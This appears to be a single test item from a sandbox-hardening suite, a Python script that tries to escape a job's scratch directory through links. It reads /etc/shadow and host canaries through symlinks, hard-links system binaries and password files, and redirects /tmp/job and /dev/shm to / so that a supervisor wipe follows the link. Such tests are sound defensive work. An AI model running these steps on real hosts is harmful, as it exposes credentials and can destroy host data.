# ATTACK 109 link_escape
# KIND: containment
# ATTEMPTS: leave the scratch through links: symlinks to /etc/shadow, the host canaries,
#           /proc/1/root and /proc/1/cwd; hard links to /usr/bin/python3, /etc/passwd and
#           /proc/self/fd entries; replace the job's own directory (/tmp/job) and /dev/shm entries
#           by symlinks to / for the supervisor's wipe or the next job's file writes to follow.
# CORRECT SANDBOX MUST: links lead nowhere outside the sandbox's own read-only root, and the
#           supervisor never follows a link the job left.
# HARNESS CHECK: no host canary in the output, nothing written on the host, the next job's
#           scratch is empty and the sandbox still works.
import os

targets = [
    "/etc/shadow",
    "/etc/verigen_canary",
    "/root/verigen_canary_secret",
    "/proc/1/root",
    "/proc/1/cwd",
    "/proc/1/root/etc/verigen_canary",
    "/proc/self/root/../../etc/hostname",
]
os.chdir("/tmp/job")
for i, t in enumerate(targets):
    name = f"sym{i}"
    try:
        os.symlink(t, name)
        with open(name) as f:
            print(f"ATTACK_INFO: {t} via symlink -> {f.read(200)!r}")
    except OSError as e:
        print(f"ATTACK_INFO: {t} via symlink -> {e!r}")
for src in ("/usr/bin/python3", "/etc/passwd", "/etc/ld.so.cache", "/proc/self/fd/0"):
    try:
        os.link(src, f"hard_{os.path.basename(src)}", follow_symlinks=False)
        print(f"ATTACK_INFO: hard link to {src} made")
    except OSError as e:
        print(f"ATTACK_INFO: hard link to {src} -> {e!r}")
os.chdir("/")
try:
    os.rename("/tmp/job", "/tmp/job_moved")
    os.symlink("/", "/tmp/job")
    print("ATTACK_INFO: /tmp/job now points at /")
except OSError as e:
    print(f"ATTACK_INFO: replacing /tmp/job -> {e!r}")
for name, to in (("job", "/"), ("verigen", "/usr"), ("dir", "/proc/1/cwd")):
    try:
        os.symlink(to, f"/dev/shm/{name}")
    except OSError as e:
        print(f"ATTACK_INFO: /dev/shm/{name} -> {e!r}")
try:
    os.mkdir("/tmp/trap", 0o700)
    os.symlink("/usr/lib", "/tmp/trap/inner")
    os.chmod("/tmp/trap", 0)
except OSError as e:
    print(f"ATTACK_INFO: trap -> {e!r}")
print("ATTACK_RESULT: see harness")
